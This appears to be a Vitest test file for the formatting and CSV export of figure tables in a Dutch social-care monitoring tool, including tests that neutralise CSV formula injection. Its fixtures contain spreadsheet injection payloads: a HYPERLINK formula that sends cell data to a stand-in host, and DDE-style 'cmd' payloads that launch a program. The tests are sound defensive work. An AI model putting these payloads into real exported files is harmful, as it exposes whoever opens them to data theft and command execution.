import { describe, expect, it } from 'vitest';
import { SECRET, SMALL as hidden, estimated, notReached, tooFew } from '../testing/monitor-fixture.ts';
import { cellText, count, csvFileName, csvText, days, estimate, money, neutraliseFormula, quantile, share, tableLegend, text, toCsv, unpublished, type FigureValue } from './figure-table.ts';
import { EXACT_LEGEND, PROTECTED_LEGEND, SECRET_LEGEND, UNPUBLISHED_TOTALS_NOTE } from './format.ts';

const shown = (n: number, isProtected = true) => ({ count: n, display: String(n), suppressed: false, protected: isProtected });

describe('figure cells', () => {
  it.each<[FigureValue, string, string]>([
    [count(shown(1234)), '1.234', '1234'],
    [count(shown(0)), '0', '0'],
    [count(hidden), '<5', '<5'],
    [count(SECRET), 'x', 'x'],
    [unpublished, '—', '—'],
    [quantile(estimated(50, 168)), '168', '168'],
    [quantile(notReached(50)), 'nog niet bereikt', 'nog niet bereikt'],
    [quantile(tooFew(90)), 'nog niet te schatten', 'nog niet te schatten'],
    [quantile(undefined), '–', ''],
    [estimate(1234), '1.234', '1234'],
    [estimate(null), '–', ''],
    [share(4735), '47,4%', '47,35'],
    [share(10_000), '100,0%', '100,00'],
    [share(null), '–', ''],
    [days(183), '183', '183'],
    [days(null), '–', ''],
    [{ kind: 'difference', value: 12, unit: 'count' }, '+12', '12'],
    [{ kind: 'difference', value: -1500, unit: 'count' }, '−1.500', '-1500'],
    [{ kind: 'difference', value: 0, unit: 'days' }, '0', '0'],
    [{ kind: 'difference', value: -250, unit: 'points' }, '−2,5 procentpunt', '-2,50'],
    [{ kind: 'difference', value: null, unit: 'count' }, '–', ''],
    [text('Beschermd wonen'), 'Beschermd wonen', 'Beschermd wonen'],
    [money(2_500_000), '€\u00a025.000,00', '25000,00'],
    [money(123_456_789), '€\u00a01.234.567,89', '1234567,89'],
    [money(7), '€\u00a00,07', '0,07'],
    [money(-1_005), '€\u00a0-10,05', '-10,05'],
    [money(null), '–', ''],
  ])('%j shows %j and exports %j', (value, screen, csv) => {
    expect(cellText(value)).toBe(screen);
    expect(csvText(value)).toBe(csv);
  });
});

describe('toCsv', () => {
  const table = {
    caption: 'Test',
    columns: [
      { label: 'Voorziening', numeric: false },
      { label: 'Uitstroom; totaal', numeric: true },
    ],
    rows: [
      { key: 'a', cells: [text('Beschermd wonen "groep"'), count(shown(12))] },
      { key: 'b', cells: [text('Nachtopvang'), count(hidden)] },
    ],
  };

  it('writes semicolon CSV with a byte-order mark, quoting where needed, CRLF line ends, the legend last', () => {
    expect(toCsv(table)).toBe(`\uFEFFVoorziening;"Uitstroom; totaal"\r\n"Beschermd wonen ""groep""";12\r\nNachtopvang;<5\r\n"${PROTECTED_LEGEND}"\r\n`);
  });

  it('has one legend for protected counts, and another for the beheerder’s exact ones', () => {
    expect(tableLegend(table)).toEqual([PROTECTED_LEGEND]);
    // Protected even where nothing shows '<5': the small adjustments are there all the same.
    expect(tableLegend({ ...table, rows: table.rows.slice(0, 1) })).toEqual([PROTECTED_LEGEND]);
    expect(tableLegend({ ...table, rows: [{ key: 'a', cells: [text('a'), count(shown(3, false))] }] })).toEqual([EXACT_LEGEND]);
  });

  it("explains 'x' and '—' where they occur, and says nothing for a table without counts", () => {
    const rows = [{ key: 'a', cells: [text('a'), count(SECRET)] }, { key: 'b', cells: [text('b'), unpublished] }];
    expect(tableLegend({ ...table, rows })).toEqual([PROTECTED_LEGEND, SECRET_LEGEND, UNPUBLISHED_TOTALS_NOTE]);
    const money5 = { ...table, rows: [{ key: 'a', cells: [text('a'), money(5)] }] };
    expect(tableLegend(money5)).toEqual([]);
    expect(toCsv(money5).trimEnd().split('\r\n')).toHaveLength(2);
  });
});

describe('CSV formula injection (OWASP)', () => {
  // Rule: every field (cell, column label, legend) that starts with = + - @ TAB or CR gets a leading
  // single quote, unless it is a plain number as csvText writes them ('-3', '-12,50', '1.5').
  it.each([
    ['=HYPERLINK("https://elders.example/?x="&A1;"Klik")', `'=HYPERLINK("https://elders.example/?x="&A1;"Klik")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
  ])('neutralises %j', (field, expected) => {
    expect(neutraliseFormula(field)).toBe(expected);
  });

  it.each(['-3', '-1500', '-12,50', '-2,50', '-0.5', '12', 'Beschermd wonen', "l'escaut", 'a=b', ''])('leaves %j as it is', (field) => {
    expect(neutraliseFormula(field)).toBe(field);
  });

  it('neutralises text cells and labels in the file, and keeps negative numbers and decimal commas numbers', () => {
    const table = {
      caption: 'Aanval',
      columns: [
        { label: '=Voorziening', numeric: false },
        { label: 'Verschil', numeric: true },
        { label: 'Bedrag', numeric: true },
      ],
      rows: [
        { key: 'a', cells: [text('=HYPERLINK("https://elders.example";"x")'), { kind: 'difference', value: -3, unit: 'count' } as FigureValue, money(-1_250)] },
        { key: 'b', cells: [text("+cmd|' /C calc'!A0"), { kind: 'difference', value: -250, unit: 'points' } as FigureValue, money(99)] },
        { key: 'c', cells: [text('@SUM(A1:A2)'), estimate(-4), money(null)] },
        { key: 'd', cells: [text('-1+1'), { kind: 'difference', value: null, unit: 'count' } as FigureValue, money(0)] },
      ],
    };
    expect(toCsv(table).slice(1).split('\r\n')).toEqual([
      "'=Voorziening;Verschil;Bedrag",
      `"'=HYPERLINK(""https://elders.example"";""x"")";-3;-12,50`,
      "'+cmd|' /C calc'!A0;-2,50;0,99",
      "'@SUM(A1:A2);-4;",
      "'-1+1;;0,00",
      '',
    ]);
  });
});

describe('csvFileName', () => {
  it('makes a safe file name from its parts', () => {
    expect(csvFileName('uitstroommonitor', 'Weer Thuis op Walcheren, Beschermd wonen', '2026-H1', 'wachttijd')).toBe(
      'uitstroommonitor_weer-thuis-op-walcheren-beschermd-wonen_2026-h1_wachttijd.csv',
    );
    expect(csvFileName('Één', '', 'Noord-Limburg')).toBe('een_noord-limburg.csv');
  });
});
